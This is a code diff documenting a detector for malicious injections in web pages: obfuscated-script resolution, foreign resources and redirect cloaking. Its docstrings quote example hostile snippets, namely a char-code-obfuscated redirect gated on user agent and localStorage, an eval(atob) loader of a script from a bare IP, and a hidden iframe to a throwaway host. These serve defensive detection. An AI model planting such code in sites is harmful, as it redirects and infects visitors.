@@ -16,6 +16,15 @@ packer) and asks what the code *does*: write a resource or send the visitor to a
 neither the page's site, nor a sister site, nor in the bundled list of common third-party
 hosts (``detector/data/known_hosts.txt``), under a search-engine or user-agent condition.
 
+Obfuscators that encode every literal are read by resolving the code in place
+(:func:`resolve_code`): escapes decoded, printable char-code arrays turned into strings wherever
+they stand, ``table[index]`` lookups replaced by the table's entries, computed members written
+as properties; when lookups cannot be resolved cheaply, an encoded string table's words stand
+for the code's vocabulary (:func:`vocabulary_intent`). An action found this way is graded by how
+many independent signals agree (:func:`resolved_tier`): the hidden target, the gates injected
+code puts around its action (visitors from a search engine, a crawler test on the user agent, a
+once-per-visitor cookie or storage marker, a delay: :func:`_gates`), and a throwaway-looking host.
+
 Cost: script bodies are only searched after cheap substring prefilters; JSON, templates and
 other non-executable script types are skipped; very large bodies (bundles) are inspected at
 their start and end only.
@@ -1522,6 +1531,20 @@ class ObfuscatedScript(Detector):
     cloaks by referrer or user agent; obfuscation that decodes to something harmless (an
     e-mail address protector, an ad network's fallback) is only a feature.
 
+    Code whose strings are all encoded is resolved in place: ``\\x``/``\\u`` escapes, arrays of
+    char codes handed to any helper (``d([104,116,116,112,...])``), char codes in a string,
+    base64 entries, and string tables read by index (``document[_0x3a1f[0]](_0x3a1f[1])``,
+    also through an offset accessor or a literal rotation). An action found only this way is
+    graded by agreement: the gates around it (visitors from a search engine, a crawler test, a
+    once-per-visitor cookie or storage marker; a delay counts half) and a throwaway-looking host.
+    None: no finding (a vendor's protected widget loading from its own host); one: medium; two or
+    more: high/high. An action read only from a table's words (lookups not resolvable) is capped
+    at high/medium.
+
+    Example: ``var u=d([104,116,116,112,115,58,...]);if(!/bot|spider/i.test(navigator.userAgent)
+    &&!localStorage.getItem('_x')){localStorage.setItem('_x',1);setTimeout(function(){
+    location.replace(u)},1500)}``: a redirect of human visitors, once per browser.
+
     Example: ``<script>eval(atob("ZG9jdW1lbnQud3JpdGUoJzxzY3JpcHQgc3JjPSJodHRwOi8vMTg1LjIz..."))</script>``
     that decodes to ``document.write('<script src="http://185.23.x.x/j.js">')``.
     """
@@ -1589,6 +1612,10 @@ class ForeignResource(Detector):
     page (a vendor usually has a script, preconnect or link there too), and the element placed
     first in the body or last in the document, where tools that append to files put it. Frames
     inside ``<noscript>`` are tag fallbacks and do not count.
+
+    A plain (not encoded) loader of an unrelated, unlisted host that runs only for visitors from
+    a search engine, or only for humans and once per visitor, is weak evidence that grows with
+    the gates that agree; a crawler test alone is how consent managers skip bots and is not.
 
     Example: ``<iframe src="http://qwxzkrt.top/in.php" width="1" height="1"
     style="visibility:hidden">``.
@@ -1788,6 +1815,10 @@ class RedirectCloaking(Detector):
     action: ``setTimeout(function(){top.location.replace("...")},0)``) from a page with content
     of its own is weak evidence even to an ordinary-looking domain (feature ``redirect_at_load``);
     jump menus, search forms, buttons and device checks are not counted.
+
+    A crawler redirect is high confidence when other gates agree (a once-per-visitor marker, a
+    delay, a throwaway-looking host); redirects found in resolved obfuscated code are graded as
+    SEO301 grades them.
 
     A redirect that runs once per visitor (a cookie or storage key is checked and set around
     it, so the owner who has been sent once never sees it again) is cloaking too: a finding even
